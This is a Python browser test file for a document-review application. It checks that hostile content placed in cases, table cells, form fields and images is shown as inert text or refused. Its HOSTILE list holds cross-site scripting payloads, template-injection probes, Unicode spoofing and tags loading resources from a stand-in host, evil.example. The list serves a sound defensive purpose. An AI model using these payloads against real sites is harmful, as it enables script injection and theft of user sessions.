"""Cases made to hurt whoever reviews them: nothing in them runs, asks anybody else, or hides; all of it is plain text."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from licet.core.case import ImageContent, TableContent, TextContent
from licet.core.desk import LEASE_LASTS
from tests.browser.installation import Installation
from tests.browser.reviewing import DIGITS, SLIPS, at_review, bring, reviewing
from tests.edge.test_drawing import pdf

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><image href=https://evil.example/i></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<style>@import url(https://evil.example/c.css)</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1)) ![x](https://evil.example/m.png)",
    "https://evil.example/plain-link",
    "</textarea></select></title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onfocus=alert(1) autofocus x='",
    "{{ 7 * 7 }} {% include 'base.html.j2' %} ${7*7} #{7*7}",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<div hx-get=https://evil.example hx-trigger=load></div>",
    "<template><script>alert(1)</script></template><math><mtext></mtext></math>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "\u202egnp.exe\u202c and zero\u200bwidth\u2066",
    "<input id=commit name=token value=stolen>",
    "x" * 20_000,
)
LIVE = ".paper :is(script, img, svg, iframe, form, a, style, link, object, input, button, video)"
PARTS = tuple(HOSTILE[start : start + 6] for start in range(0, len(HOSTILE), 6))
"""Six to a case."""


@pytest.fixture(scope="module")
def there(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    """Every hostile text, as a case's content, as its cells and as its attributes."""
    del browser
    with reviewing(tmp_path_factory.mktemp("hostile"), DIGITS, SLIPS, cases=0) as made:
        for some in PARTS:
            named = {one[:90]: "named" for one in some}
            notes = {f"note {k}": one[:5000] for k, one in enumerate(some)}
            cells = {f"cell {k}": one for k, one in enumerate(some)}
            bring(made.world, DIGITS, TextContent(text="\n\n".join(some)), attributes={**named, **notes})
            bring(made.world, SLIPS, TableContent(cells={**named, **cells}))
        yield made


@pytest.mark.parametrize("name", [DIGITS, SLIPS])
def test_nothing_in_a_case_runs_or_asks_anybody_else(browser: Browser, there: Installation, name: str) -> None:
    with at_review(browser, there) as (rene, _):
        rene.open(name)
        seen: list[str] = []
        for _k in PARTS:
            seen.append(rene.text(".paper"))
            assert rene.page.locator(LIVE).count() == 0
            case = rene.case
            rene.press("Escape", "x", "Enter").moved_from(case)
        whole = "\n".join(seen)
        for one in HOSTILE[:-3]:
            assert one in whole
        assert "U+202E" in whole
        assert "U+200B" in whole
        assert "\u202e" not in whole


def test_what_a_reviewer_types_comes_back_as_they_typed_it(browser: Browser, there: Installation) -> None:
    there.world.clock.pass_time(2 * LEASE_LASTS)
    bring(there.world, SLIPS, TableContent(cells={"a": "b"}))
    with at_review(browser, there, "rosa") as (rosa, _):
        rosa.open(SLIPS)
        for one in HOSTILE[:24:3]:
            rosa.page.get_by_label("Payee").fill(one)
            rosa.press("Enter").says("This is required.", "[data-fault='field.amount']")
            assert rosa.page.get_by_label("Payee").input_value() == one
        rosa.page.reload()
        assert rosa.ready().page.get_by_label("Payee").input_value() == HOSTILE[21]


def test_pictures_made_to_hurt_are_drawn_anew_or_said_not_to_be_shown(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> None:
    made = [
        ImageContent(data=b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", media_type="image/png"),
        ImageContent(data=b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", media_type="image/svg+xml"),
        ImageContent(data=b"%PDF-1.7 nothing", media_type="application/pdf"),
        ImageContent(data=pdf(pages=3), media_type="application/pdf"),
    ]
    with reviewing(tmp_path_factory.mktemp("pictures"), DIGITS, cases=0) as there, at_review(browser, there) as (rene, watch):
        watch.expect("status of 404")
        bring(there.world, DIGITS, *made)
        seen = []
        rene.open()
        for _k in made:
            if rene.page.locator(".picture.large").count():
                drawn = "() => { const one = document.querySelector('.picture.large img'); return one.hidden || one.naturalWidth > 0 }"
                rene.page.wait_for_function(drawn)
            seen.append(rene.text(".paper"))
            if "Page 1 of 3" in seen[-1]:
                rene.page.get_by_role("button", name="Next page").click()
                rene.says("Page 2 of 3")
            rene.answer("1")
        assert sum("cannot be read" in one for one in seen) == 2
        assert sum("cannot be shown" in one for one in seen) == 1
        assert sum("Page 1" in one for one in seen) >= 1
